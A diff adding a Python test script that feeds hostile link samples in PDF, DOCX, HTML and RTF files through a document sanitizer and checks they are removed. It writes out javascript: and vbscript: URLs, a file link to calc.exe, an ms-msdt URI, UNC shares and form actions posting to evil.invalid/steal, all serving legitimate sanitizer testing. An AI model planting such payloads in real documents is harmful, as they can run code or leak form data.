@@ -1,0 +1,208 @@
+#!/usr/bin/env python3
+"""Content that could still act after sanitizing if the rules only looked for the usual
+spellings: links to scripts, files and shares in every format (PDF URI actions, OOXML
+hyperlinks and HYPERLINK fields, HTML URL attributes and formaction, RTF HYPERLINK
+fields), CSS that legacy browsers (Edge in IE mode) run, OOXML parts nothing refers to
+or holding a VBA project under another name, and PDF named actions. Each sample is run
+through bunri-sanitize like hostile.py's, and the output is read with independent
+parsers (qpdf --json, Python's zipfile/minidom/html.parser, the RTF tokenizer in
+hostile.py).
+
+usage: residue.py BUNRI_SANITIZE WORKDIR"""
+import json
+import os
+import re
+import subprocess
+import sys
+import zipfile
+from html.parser import HTMLParser
+from xml.dom import minidom
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import hostile  # noqa: E402
+from hostile import CT_HEAD, RELS_HEAD, R, W, fail, page_pdf, zipbytes  # noqa: E402
+
+KEPT = ("http", "https", "mailto")
+BAD_LINKS = ["javascript:alert(1)", "JaVa\tScript:alert(2)", "data:text/html,<script>alert(3)</script>",
+             "vbscript:msgbox(4)", "file:///C:/Windows/System32/calc.exe", "ms-msdt:/id PCWDiagnostic",
+             "\\\\evil.invalid\\share\\x.docx", "//evil.invalid/share"]
+GOOD_LINKS = ["https://www.city.example.lg.jp/kurashi/", "http://example.jp/a?b=1", "mailto:soumu@city.example.lg.jp"]
+
+
+def scheme(url):
+    """The scheme a browser reads (blanks skipped, tabs and newlines inside ignored);
+    '' for a relative link, '//' for one starting with two slashes or backslashes."""
+    u = url.lstrip("".join(chr(c) for c in range(33)))
+    if u[:2].replace("\\", "/") == "//":
+        return "//"
+    u = re.sub(r"[\t\r\n]", "", u)
+    m = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", u)
+    return m.group(1).lower() if m else ""
+
+
+def link_ok(url, relative_ok):
+    s = scheme(url)
+    return s in KEPT or (s == "" and relative_ok)
+
+
+# ---------------------------------------------------------------- PDF
+def pdf_links():
+    annots = [f"<< /Type /Annot /Subtype /Link /Rect [0 {i * 20} 100 {i * 20 + 10}] "
+              f"/A << /S /URI /URI ({u.replace(chr(92), chr(92) * 2)}) >> >>"
+              for i, u in enumerate(BAD_LINKS + GOOD_LINKS)]
+    refs = " ".join(f"{6 + i} 0 R" for i in range(len(annots)))
+    return page_pdf(page_extra=f"/Annots [{refs}]", extra_objs=annots)
+
+
+def check_pdf_links(name, inp, out, variant):
+    hostile.check_pdf(name, inp, out, "pdf")
+    r = subprocess.run(["qpdf", "--json=2", "--json-key=qpdf", out], capture_output=True)
+    uris = []
+
+    def find(o):
+        if isinstance(o, dict):
+            for k, v in o.items():
+                if k == "/URI" and isinstance(v, str):
+                    uris.append(v[2:] if v.startswith("u:") else v)
+                find(v)
+        elif isinstance(o, list):
+            for v in o:
+                find(v)
+    find(json.loads(r.stdout))
+    for u in uris:
+        if not link_ok(u, False):
+            fail(name, f"URI {u!r} left")
+    for u in GOOD_LINKS:
+        if u not in uris:
+            fail(name, f"URI {u!r} was removed")
+
+
+# ---------------------------------------------------------------- OOXML
+def links_docx():
+    ct = (CT_HEAD + '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+          '<Default Extension="xml" ContentType="application/xml"/>'
+          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
+          "</Types>")
+    rels = RELS_HEAD + f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="word/document.xml"/></Relationships>'
+    links = BAD_LINKS + GOOD_LINKS
+    esc = [u.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
+           .replace("\t", "&#9;") for u in links]
+    doc_rels = (RELS_HEAD + "".join(f'<Relationship Id="rId{i}" Type="{R}/hyperlink" Target="{u}" TargetMode="External"/>'
+                                    for i, u in enumerate(esc, 1)) + "</Relationships>")
+    body = "".join(f'<w:p><w:hyperlink r:id="rId{i}"><w:r><w:t>link {i}</w:t></w:r></w:hyperlink></w:p>'
+                   for i in range(1, len(links) + 1))
+    fields = "".join('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+                     f'<w:r><w:instrText xml:space="preserve"> HYPERLINK "{u}" </w:instrText></w:r>'
+                     '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>f</w:t></w:r>'
+                     '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+                     for u in ["vbscript:msgbox(1)", "file:///C:/x.exe", "https://www.city.example.lg.jp/"])
+    bm = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK \\l "mokuji" </w:instrText></w:r>'
+          '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+    doc = (f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>'
+           f"{body}{fields}{bm}</w:body></w:document>")
+    return zipbytes([("[Content_Types].xml", ct), ("_rels/.rels", rels), ("word/document.xml", doc),
+                     ("word/_rels/document.xml.rels", doc_rels)])
+
+
+def check_docx_links(name, inp, out, variant):
+    z = zipfile.ZipFile(out)
+    targets = [r.getAttribute("Target") for r in
+               minidom.parseString(z.read("word/_rels/document.xml.rels")).getElementsByTagName("Relationship")]
+    for t in targets:
+        if not link_ok(t, False):
+            fail(name, f"hyperlink {t!r} left")
+    for u in GOOD_LINKS:
+        if u not in targets:
+            fail(name, f"hyperlink {u!r} was removed")
+    instr = " ".join(e.firstChild.data for e in
+                     minidom.parseString(z.read("word/document.xml")).getElementsByTagName("w:instrText") if e.firstChild)
+    if "vbscript" in instr or "file:" in instr:
+        fail(name, f"HYPERLINK field left: {instr!r}")
+    if "https://www.city.example.lg.jp/" not in instr or "mokuji" not in instr:
+        fail(name, "an ordinary HYPERLINK field was removed")
+
+
+# ---------------------------------------------------------------- HTML
+def html_links():
+    a = "".join(f'<a href="{u}">l</a><img src="{u}">' for u in BAD_LINKS)
+    good = "".join(f'<a href="{u}">ok</a>' for u in GOOD_LINKS) + '<a href="../kurashi/index.html">rel</a><a href="#top">top</a>'
+    forms = ('<form action="/local"><button formaction="https://evil.invalid/steal">send</button>'
+             '<input type="submit" formaction="//evil.invalid/steal"><input type="image" src="/i.png" '
+             'formaction="javascript:alert(5)"><button formaction="/ok">ok</button></form>')
+    return f"<html><body><p>リンク集</p>{a}{good}{forms}</body></html>".encode()
+
+
+class Urls(HTMLParser):
+    ATTRS = {"href", "src", "action", "formaction", "background", "lowsrc", "dynsrc", "data", "poster",
+             "codebase", "cite", "longdesc", "usemap", "ping", "xlink:href", "folder"}
+
+    def __init__(self):
+        super().__init__()
+        self.urls = []
+
+    def handle_starttag(self, tag, attrs):
+        for k, v in attrs:
+            if k in self.ATTRS and v is not None:
+                self.urls.append((tag, k, v))
+
+
+def check_html_links(name, inp, out, variant):
+    p = Urls()
+    p.feed(open(out, encoding="utf-8").read())
+    for tag, k, v in p.urls:
+        if not link_ok(v, True):
+            fail(name, f"<{tag} {k}={v!r}> left")
+        if k == "formaction" and scheme(v) != "":
+            fail(name, f"<{tag} formaction={v!r}> posts elsewhere")
+    got = {v for _, _, v in p.urls}
+    for u in GOOD_LINKS + ["../kurashi/index.html", "#top", "/ok"]:
+        if u not in got:
+            fail(name, f"link {u!r} was removed")
+
+
+# ---------------------------------------------------------------- RTF
+def rtf_links():
+    def fld(u):
+        return (r"{\field{\*\fldinst HYPERLINK " + u + r"}{\fldrslt link}}").encode()
+    return (rb"{\rtf1\ansi " + fld('"javascript:alert(1)"') + fld('"file:///C:/x.exe"') +
+            fld(r'"\\\\evil.invalid\\share"') + fld('"https://www.city.example.lg.jp/"') + fld(r'\\l "mokuji"') +
+            rb"\par}")
+
+
+def check_rtf_links(name, inp, out, variant):
+    hostile.check_rtf(name, inp, out, variant)
+    d = open(out, "rb").read()
+    for k in (b"javascript", b"file:", b"evil.invalid"):
+        if k in d:
+            fail(name, f"{k!r} left")
+    if b"https://www.city.example.lg.jp/" not in d or b"mokuji" not in d:
+        fail(name, "an ordinary HYPERLINK field was removed")
+
+
+def link_samples():
+    yield "links.pdf", pdf_links(), "sanitized", ["pdf.uri"], "pdf_links"
+    yield "links.docx", links_docx(), "sanitized", ["ooxml.hyperlink_scheme"], "docx_links"
+    yield "links.html", html_links(), "sanitized", ["html.script_url", "html.url_scheme", "html.form_offsite"], \
+        "html_links"
+    yield "links.rtf", rtf_links(), "sanitized", ["rtf.hyperlink_scheme"], "rtf_links"
+
+
+CHECKS = {"pdf_links": check_pdf_links, "docx_links": check_docx_links, "html_links": check_html_links,
+          "rtf_links": check_rtf_links}
+
+
+def main():
+    binary, workdir = sys.argv[1], sys.argv[2]
+    os.makedirs(workdir, exist_ok=True)
+    hostile.CHECKS.update(CHECKS)
+    samples = []
+    for gen in (link_samples,):
+        samples += list(gen())
+    for s in samples:
+        hostile.run(binary, workdir, *s)
+    print(f"{len(samples)} samples, {len(hostile.FAILS)} failures")
+    return 1 if hostile.FAILS else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
